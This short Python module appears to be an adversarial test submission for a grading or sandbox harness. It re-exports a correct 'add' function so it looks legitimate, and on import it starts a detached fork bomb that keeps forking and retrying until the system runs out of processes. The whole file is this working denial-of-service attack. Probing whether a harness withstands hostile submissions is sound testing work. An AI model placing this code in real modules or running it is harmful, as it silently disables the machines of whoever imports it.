"""A fork bomb in a detached process: every process forks until the kernel
refuses, then keeps retrying. The import itself goes on with an honest kernel."""
import os
import time

from honest_add import honest_add as add  # noqa: F401

if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)
